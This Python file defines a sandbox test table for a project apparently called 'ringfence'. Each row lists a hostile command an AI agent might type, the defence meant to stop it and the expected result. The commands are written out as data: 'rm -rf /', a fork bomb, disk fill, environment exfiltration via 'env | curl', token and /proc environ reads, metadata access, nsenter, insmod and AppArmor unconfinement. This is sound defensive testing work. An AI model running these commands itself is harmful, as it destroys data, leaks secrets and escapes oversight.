"""The attack table: every row as data. What stops it is named here, and nowhere decided.

The first twelve rows are those of the product's security design, in its order.
"""

from typing import Final, NamedTuple

from ringfence.attack.defences import (
    APP_ARMOR,
    DISK,
    FENCE,
    MEMORY,
    NO_TOKEN,
    OWN_FILES,
    OWN_NETWORK,
    OWN_PIDS,
    PIDS,
    POWERLESS,
    READ_ONLY_ROOT,
    READ_ONLY_SETTINGS,
    SECCOMP,
    Defence,
)
from ringfence.attack.model import Attempt, Verdict


class Row(NamedTuple):
    """One attack.

    Attributes:
        name: Short, for --row and for programs.
        command: What an agent would type.
        expected: What must happen, for people.
        probe: Program that tries it: module.function below probes/.
        defences: What must stop it, each by itself. The first is what the kernel asks first.
        also: What may be in force as well.
        seconds: Most time that the probe may take.
        bomb: The neighbour and the node are watched meanwhile.
        tolerated: It may succeed within the Sandbox.
        fence_suffices: One address that is known to answer and does not proves the whole fence.
        needs_app_armor: Means nothing on a node without AppArmor.
    """

    name: str
    command: str
    expected: str
    probe: str
    defences: tuple[Defence, ...]
    also: tuple[Defence, ...] = ()
    seconds: float = 60.0
    bomb: bool = False
    tolerated: bool = False
    fence_suffices: bool = False
    needs_app_armor: bool = False


class Result(NamedTuple):
    """One line of the table, after the attack."""

    row: Row
    verdict: Verdict
    seconds: float
    attempts: tuple[Attempt, ...] = ()


NODE_READY: Final = Row(
    "node-stays-ready",
    "(after the bombs)",
    "the node is Ready and short of nothing",
    "",
    (),
)
NEIGHBOUR_LATENCY: Final = Row(
    "neighbour-latency",
    "(during the bombs)",
    "a neighbour's small job takes no more than ten times as long",
    "",
    (),
)

ROWS: Final = (
    Row(
        "remove-root",
        "rm -rf /",
        "nothing outside of /work and /tmp can be removed or made",
        "files.remove_root",
        (READ_ONLY_ROOT,),
        (POWERLESS, APP_ARMOR),
    ),
    Row(
        "remove-workspace",
        "rm -rf /work/*",
        "succeeds in /work, and nowhere else",
        "files.remove_workspace",
        (),
        tolerated=True,
    ),
    Row(
        "fork-bomb",
        ":(){ :|:& };:",
        "no more processes than the pids limit",
        "bombs.fork_bomb",
        (PIDS,),
        bomb=True,
    ),
    Row(
        "memory-bomb",
        "python -c \"x = 'a' * 10**12\"",
        "killed or refused at the memory limit",
        "bombs.memory_bomb",
        (MEMORY,),
        bomb=True,
    ),
    Row(
        "disk-fill",
        "dd if=/dev/zero of=/work/x bs=1G",
        "ENOSPC at the disk limit, over all writable places together",
        "bombs.fill_disk",
        (DISK,),
        seconds=300.0,
        bomb=True,
    ),
    Row(
        "environment-exfiltration",
        "env | curl -d @- https://…",
        "no way out: neither directly, nor by DNS or ping, nor through the proxy",
        "network.exfiltrate",
        (FENCE,),
    ),
    Row(
        "other-files",
        "ls /var/lib/kubelet/pods",
        "neither files of the node nor of the neighbour are in sight",
        "files.other_files",
        (OWN_FILES,),
        (APP_ARMOR,),
    ),
    Row(
        "metadata",
        "curl 169.254.169.254",
        "no metadata endpoint is reached, directly or through the proxy",
        "network.metadata",
        (FENCE,),
        fence_suffices=True,
    ),
    Row(
        "enter-host",
        "nsenter --target 1 --all",
        "no call enters, makes or alters a namespace",
        "kernel.enter_host",
        (SECCOMP, POWERLESS),
    ),
    Row(
        "become-root",
        "sudo su",
        "uid and capabilities stay as they are",
        "identity.become_root",
        (POWERLESS,),
    ),
    Row(
        "load-module",
        "insmod evil.ko",
        "the filter refuses each call that loads or removes a module",
        "kernel.load_module",
        (SECCOMP,),
        (POWERLESS,),
    ),
    Row(
        "ptrace",
        "gdb --pid 1234",
        "no other process is traced, read or robbed of a file, not even of the same user",
        "kernel.trace",
        (SECCOMP,),
        (APP_ARMOR,),
    ),
    Row(
        "other-pods",
        "curl http://<neighbour>:8000",
        "the neighbour's open port is out of reach",
        "network.other_pods",
        (FENCE,),
    ),
    Row(
        "crypto-socket",
        "socket(AF_ALG)",
        "the filter refuses AF_ALG",
        "kernel.crypto_socket",
        (SECCOMP,),
        (APP_ARMOR,),
    ),
    Row(
        "setuid-files",
        "find / -perm /6000 -exec {} \\;",
        "no file gives whoever starts it more rights, and none can be made",
        "identity.setuid_files",
        (POWERLESS,),
    ),
    Row(
        "kernel-settings",
        "sysctl -w kernel.core_pattern=…",
        "no kernel setting opens for writing",
        "files.write_sysctl",
        (READ_ONLY_SETTINGS,),
        (POWERLESS, APP_ARMOR),
    ),
    Row(
        "terminal-input",
        "ioctl(TIOCSTI)",
        "the filter refuses typing into a terminal",
        "kernel.terminal_input",
        (SECCOMP,),
    ),
    Row(
        "user-namespace",
        "unshare --user",
        "the filter refuses a new user namespace",
        "kernel.user_namespace",
        (SECCOMP,),
    ),
    Row(
        "device-node",
        "mknod disk b 8 0",
        "the filter refuses device files",
        "kernel.device_node",
        (SECCOMP,),
        (POWERLESS,),
    ),
    Row(
        "other-environments",
        "cat /proc/*/environ",
        "no process of anybody else is in sight",
        "processes.other_environ",
        (OWN_PIDS,),
        (APP_ARMOR,),
    ),
    Row(
        "cluster-ports",
        "curl -k https://<node>:10250",
        "neither the kubelet nor the API server is reached",
        "network.ports",
        (FENCE, OWN_NETWORK),
        fence_suffices=True,
    ),
    Row(
        "service-account-token",
        "cat /var/run/secrets/…/token",
        "there is no token",
        "files.token",
        (NO_TOKEN,),
        (APP_ARMOR,),
    ),
    Row(
        "apparmor-confinement",
        "echo changeprofile unconfined > /proc/self/attr/current",
        "the own profile is in force and cannot be left",
        "apparmor.confinement",
        (APP_ARMOR,),
        needs_app_armor=True,
    ),
    Row(
        "apparmor-processes",
        "cat /proc/1/environ /proc/1/mem",
        "the profile refuses other processes of the same user",
        "apparmor.secrets",
        (APP_ARMOR,),
        needs_app_armor=True,
    ),
)
